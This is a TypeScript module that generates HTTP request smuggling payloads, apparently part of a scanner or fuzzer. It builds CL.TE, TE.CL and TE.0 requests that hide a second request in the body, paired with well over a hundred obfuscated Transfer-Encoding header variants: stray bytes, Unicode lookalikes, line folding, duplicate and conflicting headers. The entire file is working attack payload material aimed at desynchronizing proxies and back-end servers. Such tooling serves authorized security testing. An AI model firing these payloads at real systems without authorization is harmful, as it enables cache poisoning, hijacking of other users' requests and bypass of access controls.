import { chunk, join } from '../wire.ts';
import { type Attack, everyByte, hidden, length, named, oddBytes, post } from './attack.ts';

/** Two ways to take a body, for a head that says both lengths, or one of them in disguise. */
const bodies: readonly (readonly [kind: string, of: (at: string, disguised: readonly string[]) => Buffer])[] = [
  [
    'CL.TE',
    (at, disguised) => {
      const body = `0\r\n\r\n${hidden(at)}`;
      return join(post(at, length(body), ...disguised), body);
    },
  ],
  [
    'TE.CL',
    (at, disguised) => {
      const body = join(chunk(hidden(at)), '0\r\n\r\n');
      return join(post(at, ...disguised, `Content-Length: ${body.indexOf('\n') + 1}`), body);
    },
  ],
];
/** Where there is no other length, who does not know the disguise takes the body for requests. */
const onlyEncoded = [
  'TE.0',
  (at: string, disguised: readonly string[]) => join(post(at, ...disguised), chunk(hidden(at)), '0\r\n\r\n'),
] as const;

const TE = 'Transfer-Encoding';

/** Lines with one byte where it does not belong. */
const withAnyByte: readonly ((byte: string) => string)[] = [
  (byte) => `${byte}${TE}: chunked`,
  (byte) => `Transfer${byte}Encoding: chunked`,
  (byte) => `${TE}${byte}: chunked`,
  (byte) => `${TE}:${byte}chunked`,
  (byte) => `${TE}: ${byte}chunked`,
  (byte) => `${TE}: chun${byte}ked`,
  (byte) => `${TE}: chunked${byte}`,
];
const withOddByte: readonly ((byte: string) => string)[] = [
  (byte) => `X: y${byte}${TE}: chunked`,
  (byte) => `${TE}: chunked${byte}X: y`,
  (byte) => `X: y\r${byte}${TE}: chunked`,
  (byte) => `X: y${byte}\n${TE}: chunked`,
  (byte) => `${TE}${byte}${byte}: chunked`,
];

const disguises: readonly (readonly string[])[] = [
  ...[
    'chunked',
    'CHUNKED',
    'cHuNkEd',
    'xchunked',
    'chunkedx',
    'chunk',
    'chunkedchunked',
    '"chunked"',
    "'chunked'",
    'chunked;q=1',
    'chunked;',
    'chunked ; a=b',
    'chunked, ',
    ',chunked',
    ', chunked',
    ',,chunked',
    'chunked,,',
    'chunked, identity',
    'identity, chunked',
    'identity, chunked, identity',
    'identity',
    'chunked, chunked',
    'chunked,chunked',
    'gzip, chunked',
    'chunked, gzip',
    'cow chunked bar',
    'cow, chunked',
    'chunked, cow',
    'chunked chunked',
    '[chunked]',
    '{chunked}',
    '(chunked)',
    'chunked(comment)',
    '=?utf-8?q?chunked?=',
    'ch%75nked',
    'chunked%0d%0a',
    'chunked\\',
    'ch\xc3\xbcnked',
    'ch\xc5\xabnked',
    '\xef\xbd\x83hunked',
    '\xef\xbb\xbfchunked',
    'chun\xe2\x80\x8bked',
    '\xc2\xa0chunked',
    'chunked\xc2\xa0',
    '\xe2\x80\x83chunked',
    'true',
    'null',
    '0',
    '1',
    '',
    ' ',
    '\t',
    '\r\n chunked',
    '\r\n\tchunked',
    '\r\n\r\n chunked',
    '\n chunked',
    '\n\tchunked',
    '\r chunked',
    ' \r\n chunked',
    'chunked\r\n ',
    'chunked\r\n , identity',
    'identity\r\n , chunked',
    'chunked\n',
    'chunked\r',
    'chunked\r\r',
    '\x0bchunked\x0b',
  ].map((value) => [`${TE}: ${value}`]),
  ...[
    `${TE}:chunked`,
    `${TE}:  chunked`,
    `${TE}:\tchunked`,
    `${TE}\t:\tchunked`,
    `${TE} : chunked`,
    `${TE} x: chunked`,
    `${TE}=chunked`,
    `${TE} chunked`,
    `${TE} chunked : chunked`,
    `${TE};: chunked`,
    `${TE}::chunked`,
    `:${TE}: chunked`,
    `: ${TE}: chunked`,
    `transfer-encoding: chunked`,
    `TRANSFER-ENCODING: CHUNKED`,
    `TrAnSfEr-EnCoDiNg: cHuNkEd`,
    `Transfer_Encoding: chunked`,
    `Transfer Encoding: chunked`,
    `TransferEncoding: chunked`,
    `Transfer--Encoding: chunked`,
    'Transfer\\Encoding: chunked',
    'Transfer%2dEncoding: chunked',
    'Transfer-%45ncoding: chunked',
    'Transfer\xe2\x80\x90Encoding: chunked',
    'Tran\xc5\xbffer-Encoding: chunked',
    'Transfer-\r\nEncoding: chunked',
    'Transfer-\r\n Encoding: chunked',
    'Transfer-Encodin: chunked',
    'X-Transfer-Encoding: chunked',
    'HTTP_TRANSFER_ENCODING: chunked',
    'Content-Encoding: chunked',
    'TE: chunked',
    'Content-Transfer-Encoding: chunked',
    'X: y\r\n Transfer-Encoding: chunked',
    'X: y\r\n\tTransfer-Encoding: chunked',
    'X: y\n Transfer-Encoding: chunked',
    'X: y\n\nTransfer-Encoding: chunked',
    'X: y\r\rTransfer-Encoding: chunked',
    'X: y\r\n\rTransfer-Encoding: chunked',
    'X: y\0\r\nTransfer-Encoding: chunked',
    'X: y\\r\\nTransfer-Encoding: chunked',
    'X: y%0d%0aTransfer-Encoding: chunked',
    'X:\r\nTransfer-Encoding: chunked',
    'X\r\nTransfer-Encoding: chunked',
    ':\r\nTransfer-Encoding: chunked',
    ' \r\nTransfer-Encoding: chunked',
    '\r\nTransfer-Encoding: chunked',
  ].map((line) => [line]),
  [`${TE}: chunked`, `${TE}: chunked`],
  [`${TE}: chunked`, `${TE}: identity`],
  [`${TE}: identity`, `${TE}: chunked`],
  [`${TE}: chunked`, `${TE}: cow`],
  [`${TE}: cow`, `${TE}: chunked`],
  [`${TE}: chunked`, 'transfer-encoding: x'],
  [`${TE}:`, `${TE}: chunked`],
  [`${TE}: chunked`, `${TE}:`],
  [`${TE}: gzip`, `${TE}: chunked`],
  [`${TE}: chunked`, 'Transfer_Encoding: identity'],
  [`Connection: ${TE}`, `${TE}: chunked`],
  ['Connection: Content-Length', `${TE}: chunked`],
  [`Connection: close, ${TE}`, `${TE}: chunked`],
  [`Trailer: ${TE}`, `${TE}: chunked`],
  ['Upgrade: h2c', `${TE}: chunked`],
  ['Expect: 100-continue', `${TE}: chunked`],
];

export const encodings: readonly Attack[] = [
  ...everyByte.flatMap((byte) =>
    withAnyByte.flatMap((line) =>
      // Where it ends matters most for the odd ones.
      bodies
        .slice(0, oddBytes.includes(byte) ? undefined : 1)
        .map(([kind, of]) => named(`${kind} ${line(byte)}`, (at) => of(at, [line(byte)]))),
    ),
  ),
  ...oddBytes.flatMap((byte) =>
    withOddByte.flatMap((line) =>
      bodies.map(([kind, of]) => named(`${kind} ${line(byte)}`, (at) => of(at, [line(byte)]))),
    ),
  ),
  ...[...bodies, onlyEncoded].flatMap(([kind, of]) =>
    disguises.map((lines) => named(`${kind} ${lines.join(' | ')}`, (at) => of(at, lines))),
  ),
];
